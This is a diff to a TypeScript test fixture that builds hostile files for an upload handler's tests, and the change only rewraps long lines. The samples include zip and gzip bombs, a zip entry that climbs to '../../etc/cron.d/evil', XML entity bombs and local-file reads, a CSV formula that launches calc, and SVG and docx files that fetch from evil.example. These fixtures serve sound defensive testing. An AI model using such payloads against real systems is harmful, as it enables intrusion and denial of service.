@@ -5,10 +5,12 @@ const zeros = (bytes: number) => Buffer.alloc(bytes)
 
 /** Files of other kinds: nothing of ours takes them apart beyond their first bytes; they stay as they came, sealed. */
 export function otherFiles(): HostileFile[] {
-  return [...documents(), ...packed(), ...drawings(), ...programs(), ...pictureKinds(), ...sizes()].map((file) => ({
-    becomes: 'original',
-    ...file,
-  }))
+  return [...documents(), ...packed(), ...drawings(), ...programs(), ...pictureKinds(), ...sizes()].map(
+    (file) => ({
+      becomes: 'original',
+      ...file,
+    }),
+  )
 }
 
 function documents(): HostileFile[] {
@@ -25,33 +27,84 @@ function documents(): HostileFile[] {
     pdf('with an endless table', `xref\n0 4294967295\n${'0000000000 65535 f \n'.repeat(2_000)}`),
     pdf('with a hundred thousand brackets', '['.repeat(100_000)),
     pdf('cut off', '1 0 obj<</Len'),
-    { what: 'rtf with an object', name: 'a.doc', bytes: text(`{\\rtf1{\\object\\objdata ${'41'.repeat(9_000)}}}`) },
+    {
+      what: 'rtf with an object',
+      name: 'a.doc',
+      bytes: text(`{\\rtf1{\\object\\objdata ${'41'.repeat(9_000)}}}`),
+    },
     { what: 'old office file', name: 'a.xls', bytes: join(hex('d0cf11e0a1b11ae1'), zeros(2_000), MARK) },
-    { what: 'old office file that refers to itself', name: 'a.doc', bytes: join(hex('d0cf11e0a1b11ae1'), Buffer.alloc(512, 0)) },
-    { what: 'mail with a program', name: 'a.eml', bytes: text('Content-Type: application/x-msdownload\n\nTVqQ') },
+    {
+      what: 'old office file that refers to itself',
+      name: 'a.doc',
+      bytes: join(hex('d0cf11e0a1b11ae1'), Buffer.alloc(512, 0)),
+    },
+    {
+      what: 'mail with a program',
+      name: 'a.eml',
+      bytes: text('Content-Type: application/x-msdownload\n\nTVqQ'),
+    },
     { what: 'page with a script', name: 'a.html', bytes: text('<!doctype html><script>alert(1)</script>') },
     { what: 'page called a picture', name: 'a.png', bytes: text('<html><script>alert(1)</script>') },
-    { what: 'text with marks that turn it round', name: 'a.txt', bytes: text('\u202eevil\u202c'.repeat(999)) },
+    {
+      what: 'text with marks that turn it round',
+      name: 'a.txt',
+      bytes: text('\u202eevil\u202c'.repeat(999)),
+    },
     { what: 'table of formulas', name: 'a.csv', bytes: text('=cmd|calc!A1,+1,-1,@x') },
   ]
 }
 
 function packed(): HostileFile[] {
   const bomb = gzipSync(zeros(20 * 1024 * 1024), { level: 9 })
-  const office = (inside: string, body: Uint8Array = zeros(100)) => zip([['[Content_Types].xml', text('<Types/>')], [inside, body]])
+  const office = (inside: string, body: Uint8Array = zeros(100)) =>
+    zip([
+      ['[Content_Types].xml', text('<Types/>')],
+      [inside, body],
+    ])
   return [
     { what: 'gzip of 20 MB of nothing', name: 'a.gz', bytes: bomb },
     { what: 'gzip in a gzip in a gzip', name: 'a.gz', bytes: gzipSync(gzipSync(bomb)) },
     { what: 'zip of 50 MB of nothing', name: 'a.zip', bytes: zip([['a', zeros(50 * 1024 * 1024)]]) },
-    { what: 'zip in a zip', name: 'a.zip', bytes: zip([['a.zip', zip([['b.zip', zip([['c', zeros(9e6)]])]])]]) },
-    { what: 'zip of twenty thousand files', name: 'a.zip', bytes: zip(Array.from({ length: 20_000 }, (_, at) => [`f${at}`, zeros(0)])) },
+    {
+      what: 'zip in a zip',
+      name: 'a.zip',
+      bytes: zip([['a.zip', zip([['b.zip', zip([['c', zeros(9e6)]])]])]]),
+    },
+    {
+      what: 'zip of twenty thousand files',
+      name: 'a.zip',
+      bytes: zip(Array.from({ length: 20_000 }, (_, at) => [`f${at}`, zeros(0)])),
+    },
     { what: 'zip that climbs out', name: 'a.zip', bytes: zip([['../../etc/cron.d/evil', text(MARK)]]) },
     { what: 'zip whose lengths lie', name: 'a.zip', bytes: lyingZip() },
-    { what: 'word file with macros', name: 'a.docm', bytes: office('word/vbaProject.bin', hex('d0cf11e0a1b11ae1')) },
-    { what: 'word file with an outside template', name: 'a.docx', bytes: office('word/_rels/settings.xml.rels', text('<Relationship TargetMode="External" Target="http://evil.example/t.dotm"/>')) },
-    { what: 'spreadsheet with an XML bomb', name: 'a.xlsx', bytes: office('xl/workbook.xml', text(laughs())) },
-    { what: 'presentation of 40 MB of nothing', name: 'a.pptx', bytes: office('ppt/slide1.xml', zeros(40e6)) },
-    { what: 'word file that reads a file of ours', name: 'a.docx', bytes: office('word/document.xml', text(entity())) },
+    {
+      what: 'word file with macros',
+      name: 'a.docm',
+      bytes: office('word/vbaProject.bin', hex('d0cf11e0a1b11ae1')),
+    },
+    {
+      what: 'word file with an outside template',
+      name: 'a.docx',
+      bytes: office(
+        'word/_rels/settings.xml.rels',
+        text('<Relationship TargetMode="External" Target="http://evil.example/t.dotm"/>'),
+      ),
+    },
+    {
+      what: 'spreadsheet with an XML bomb',
+      name: 'a.xlsx',
+      bytes: office('xl/workbook.xml', text(laughs())),
+    },
+    {
+      what: 'presentation of 40 MB of nothing',
+      name: 'a.pptx',
+      bytes: office('ppt/slide1.xml', zeros(40e6)),
+    },
+    {
+      what: 'word file that reads a file of ours',
+      name: 'a.docx',
+      bytes: office('word/document.xml', text(entity())),
+    },
     { what: 'zip with an empty end', name: 'a.zip', bytes: join('PK\x05\x06', zeros(18)) },
     { what: '7z', name: 'a.7z', bytes: join(hex('377abcaf271c'), zeros(40)) },
     { what: 'rar', name: 'a.rar', bytes: join(hex('526172211a0700'), zeros(40)) },
@@ -81,7 +134,10 @@ function drawings(): HostileFile[] {
     svg('that reads a file', `${entity()}${open}><text>&e;</text></svg>`),
     svg('that fetches', `${open}><image href="http://evil.example/${MARK}"/></svg>`),
     svg('of a billion pixels', `${open} width="99999999" height="99999999"/>`),
-    svg('with a page inside', `${open}><foreignObject><iframe src="javascript:alert(1)"/></foreignObject></svg>`),
+    svg(
+      'with a page inside',
+      `${open}><foreignObject><iframe src="javascript:alert(1)"/></foreignObject></svg>`,
+    ),
     svg('a hundred thousand deep', `${open}>${'<g>'.repeat(100_000)}`),
     { ...svg('called a picture', `${open}><script/></svg>`), name: 'a.png' },
     { what: 'packed svg', name: 'a.svgz', bytes: gzipSync(text(`${open}><script/></svg>`)) },
@@ -114,21 +170,47 @@ function programs(): HostileFile[] {
 
 /** Pictures and films of kinds that we do not make anew, malformed. */
 function pictureKinds(): HostileFile[] {
-  const box = (kind: string, more = '') => join(hex('00000018'), `ftyp${kind}`, hex('00000000'), kind, 'mif1', more)
+  const box = (kind: string, more = '') =>
+    join(hex('00000018'), `ftyp${kind}`, hex('00000000'), kind, 'mif1', more)
   const loop = join('II*\0', hex('08000000 0100 0001 0400 01000000 ffffffff 08000000'))
   const files: [string, string, Uint8Array][] = [
     ['heic of no content', 'a.heic', box('heic')],
-    ['heic with boxes without end', 'a.heic', join(box('heic'), hex('00000001'), 'meta', hex('ffffffffffffffff'))],
-    ['heic nested a thousand deep', 'a.heic', join(box('heic'), join(...Array.from({ length: 1_000 }, () => join(hex('0000ffff'), 'meta'))))],
+    [
+      'heic with boxes without end',
+      'a.heic',
+      join(box('heic'), hex('00000001'), 'meta', hex('ffffffffffffffff')),
+    ],
+    [
+      'heic nested a thousand deep',
+      'a.heic',
+      join(box('heic'), join(...Array.from({ length: 1_000 }, () => join(hex('0000ffff'), 'meta')))),
+    ],
     ['heic called a jpeg', 'a.jpg', box('heic')],
     ['avif of no content', 'a.avif', box('avif')],
     ['tiff whose directory is its own next', 'a.tif', loop],
-    ['tiff of four billion strips', 'a.tif', join('II*\0', hex('08000000 0100 1101 0400 ffffffff ffffffff 00000000'))],
+    [
+      'tiff of four billion strips',
+      'a.tif',
+      join('II*\0', hex('08000000 0100 1101 0400 ffffffff ffffffff 00000000')),
+    ],
     ['tiff of four billion tags', 'a.tif', join('MM\0*', hex('00000008 ffff'))],
     ['big tiff', 'a.tif', join('II+\0', hex('0800000010000000 00000000'))],
     ['gif of 65535 squared', 'a.gif', join('GIF89a', hex('ffffffff f70000'), zeros(900))],
-    ['gif of a thousand frames', 'a.gif', join('GIF89a', hex('08000800 800000 000000ffffff'), ...Array.from({ length: 1_000 }, () => hex('2c0000000008000800000202446400')), ';')],
-    ['bmp of a billion pixels', 'a.bmp', join('BM', hex('36000000 00000000 36000000 28000000 ffffff7f ffffff7f 0100 1800'), zeros(60))],
+    [
+      'gif of a thousand frames',
+      'a.gif',
+      join(
+        'GIF89a',
+        hex('08000800 800000 000000ffffff'),
+        ...Array.from({ length: 1_000 }, () => hex('2c0000000008000800000202446400')),
+        ';',
+      ),
+    ],
+    [
+      'bmp of a billion pixels',
+      'a.bmp',
+      join('BM', hex('36000000 00000000 36000000 28000000 ffffff7f ffffff7f 0100 1800'), zeros(60)),
+    ],
     ['icon', 'a.ico', join(hex('00000100ffff'), zeros(60))],
     ['photoshop', 'a.psd', join('8BPS', hex('0001000000000000'), zeros(60))],
     ['jpeg 2000', 'a.jp2', join(hex('0000000c6a5020200d0a870a'), zeros(60))],
@@ -147,8 +229,18 @@ function sizes(): HostileFile[] {
   return [
     { what: 'a single byte', name: 'a.png', bytes: hex('89') },
     { what: '25 MB of nothing', name: 'a.bin', bytes: zeros(25 * 1024 * 1024) },
-    { what: '24 MB that begin like a jpeg', name: 'a.jpg', bytes: join(hex('ffd8ff'), zeros(24e6)), becomes: 'refused' },
-    { what: '24 MB that begin like a png', name: 'a.png', bytes: join(hex('89504e470d0a1a0a0000000d49484452'), zeros(24e6)), becomes: 'refused' },
+    {
+      what: '24 MB that begin like a jpeg',
+      name: 'a.jpg',
+      bytes: join(hex('ffd8ff'), zeros(24e6)),
+      becomes: 'refused',
+    },
+    {
+      what: '24 MB that begin like a png',
+      name: 'a.png',
+      bytes: join(hex('89504e470d0a1a0a0000000d49484452'), zeros(24e6)),
+      becomes: 'refused',
+    },
     { what: 'a million line breaks', name: 'a.txt', bytes: text('\n'.repeat(1e6)) },
   ]
 }
